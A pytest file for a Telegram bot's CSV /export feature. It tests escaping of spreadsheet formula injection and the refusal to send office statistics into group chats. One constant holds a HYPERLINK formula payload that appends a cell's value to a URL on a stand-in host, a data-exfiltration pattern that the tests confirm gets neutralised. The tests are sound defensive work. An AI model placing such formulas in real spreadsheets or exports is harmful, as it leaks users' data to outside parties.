"""/export's CSV cannot carry a formula into Excel; office figures stay out of groups."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handlers.telegram.export import DANGEROUS_FIRST, spreadsheet_safe
from tests.world import ADMIN, GROUP_CHATS, URBAN_STAFF, World

LITTER = "小区东门垃圾桶满了好几天没人清运"
FORMULA = '=HYPERLINK("http://example.invalid/x?d="&A1,"小区东门垃圾桶满了好几天没人清运")'
PRIVATE_ONLY = "请在与机器人的私聊中使用此命令"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x","点我")', '\'=HYPERLINK("http://x","点我")'),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+86 138", "'+86 138"),
        ("-1+2", "'-1+2"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("东门=垃圾", "东门=垃圾"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_a_text_beginning_like_a_formula_gets_a_quote_in_front(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


def test_numbers_stay_numbers() -> None:
    assert spreadsheet_safe(-33.8688) == -33.8688
    assert spreadsheet_safe(2) == 2


def write_and_read(rows: list[list[str]]) -> list[list[str]]:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([spreadsheet_safe(cell) for cell in row])
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


cells = st.one_of(
    st.text(),
    st.builds(lambda c, rest: c + rest, st.sampled_from(sorted(DANGEROUS_FIRST)), st.text()),
)


@given(st.lists(st.lists(cells, min_size=1, max_size=5), max_size=5))
def test_no_cell_read_back_begins_like_a_formula(rows: list[list[str]]) -> None:
    for row, back in zip(rows, write_and_read(rows), strict=True):
        for cell, read in zip(row, back, strict=True):
            if cell[:1] in DANGEROUS_FIRST:
                assert read == "'" + cell
            else:
                assert read == cell  # harmless text round-trips unchanged
            assert not read[:1] or read[0] not in DANGEROUS_FIRST


async def exported(world: World) -> bytes:
    after = len(world.api.sent_to(ADMIN))
    world.api.send_text(ADMIN, "/export")
    document = await world.api.next_sent(ADMIN, after=after)
    assert document.document_bytes is not None
    return document.document_bytes


async def test_a_report_written_as_a_formula_is_exported_as_text(world: World) -> None:
    await world.file(FORMULA)
    data = await exported(world)
    assert data.startswith(b"\xef\xbb\xbf")
    _, case = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert case[-1] == "'" + FORMULA


@pytest.mark.parametrize(
    "command", ["/export", "/stats", "/survey_stats", "/quiz_stats", "/push_status"]
)
async def test_office_figures_are_not_sent_into_a_group_chat(world: World, command: str) -> None:
    await world.file(LITTER)
    await world.alert("urban")
    group = GROUP_CHATS["urban"]
    reply = await world.say(command, user=ADMIN, chat_id=group)
    assert PRIVATE_ONLY in reply.text
    # The office's private chat still gets them, and the group got nothing more.
    sent = len(world.api.sent_to(group))
    await world.say(command, user=ADMIN)
    assert len(world.api.sent_to(group)) == sent
    assert all(m.document is None and not m.photo_file_ids for m in world.api.sent_to(group))


async def test_non_admins_in_a_group_keep_the_refusal(world: World) -> None:
    reply = await world.say("/export", user=URBAN_STAFF, chat_id=GROUP_CHATS["urban"])
    assert "无权限" in reply.text
